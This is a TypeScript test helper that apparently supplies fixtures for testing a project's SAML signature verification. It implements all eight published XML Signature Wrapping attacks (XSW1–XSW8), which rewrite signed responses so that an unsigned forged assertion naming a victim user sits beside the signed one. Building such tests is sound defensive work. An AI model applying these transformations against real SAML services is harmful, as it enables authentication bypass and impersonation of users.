import { DOMParser, type Document, type Element, XMLSerializer } from '@xmldom/xmldom';
import { DSIG } from '../../src/identity/xml.ts';

/** Signature wrapping, as published by Somorovsky and others and implemented in SAML Raider: what is signed stays, evil goes beside it. */
export const WRAPPINGS: Record<string, (response: Element) => void> = {
  'XSW1: the signed response inside the evil one’s signature': (response) => {
    const original = withoutSignature(response);
    signatureOf(response).appendChild(original);
    response.setAttribute('ID', '_evil');
    becomeEvil(response, [original]);
  },
  'XSW2: the signed response before the signature': (response) => {
    const original = withoutSignature(response);
    response.insertBefore(original, signatureOf(response));
    response.setAttribute('ID', '_evil');
    becomeEvil(response, [original]);
  },
  'XSW3: an evil assertion before the signed one': (response) => {
    const assertion = assertionOf(response);
    const evil = evilCopy(assertion);
    response.insertBefore(evil, assertion);
  },
  'XSW4: the signed assertion inside an evil one': (response) => {
    const assertion = assertionOf(response);
    const evil = evilCopy(assertion);
    response.appendChild(evil);
    evil.appendChild(assertion);
  },
  'XSW5: an evil assertion with the signature, the signed one behind it': (response) => {
    const assertion = assertionOf(response);
    response.appendChild(withoutSignature(assertion));
    assertion.setAttribute('ID', '_evil');
    becomeEvil(assertion, []);
  },
  'XSW6: the signed assertion inside the evil one’s signature': (response) => {
    const assertion = assertionOf(response);
    const original = withoutSignature(assertion);
    signatureOf(assertion).appendChild(original);
    assertion.setAttribute('ID', '_evil');
    becomeEvil(assertion, [original]);
  },
  'XSW7: an evil assertion in extensions': (response) => {
    const extensions = documentOf(response).createElement('Extensions');
    response.insertBefore(extensions, assertionOf(response));
    extensions.appendChild(evilCopy(assertionOf(response)));
  },
  'XSW8: the signed assertion in an object of the signature': (response) => {
    const assertion = assertionOf(response);
    const original = withoutSignature(assertion);
    const object = documentOf(response).createElementNS(DSIG, 'ds:Object');
    object.appendChild(original);
    signatureOf(assertion).appendChild(object);
    assertion.setAttribute('ID', '_evil');
    becomeEvil(assertion, [original]);
  },
};

/** Changes a signed response as an attacker does on its way. */
export function tamper(xml: string, change: (response: Element) => void): string {
  const document = new DOMParser().parseFromString(xml, 'text/xml');
  change(document.documentElement!);
  return new XMLSerializer().serializeToString(document);
}

/** Who the attacker wants to be. */
const VICTIM = 'sam';

export function assertionOf(response: Element): Element {
  return all(response, 'Assertion')[0]!;
}

export function signatureOf(element: Element): Element {
  return [...element.childNodes].find((node) => node.nodeName === 'ds:Signature') as Element;
}

export function all(element: Element, name: string): Element[] {
  return [...element.getElementsByTagNameNS('*', name)];
}

function documentOf(element: Element): Document {
  return element.ownerDocument!;
}

function withoutSignature(element: Element): Element {
  const copy = element.cloneNode(true) as Element;
  copy.removeChild(signatureOf(copy));
  return copy;
}

function evilCopy(assertion: Element): Element {
  const evil = withoutSignature(assertion);
  evil.setAttribute('ID', '_evil');
  becomeEvil(evil, []);
  return evil;
}

function becomeEvil(element: Element, except: Element[]): void {
  const spared = new Set(except.flatMap((each) => all(each, 'NameID')));
  for (const name of all(element, 'NameID')) if (!spared.has(name)) name.textContent = VICTIM;
}
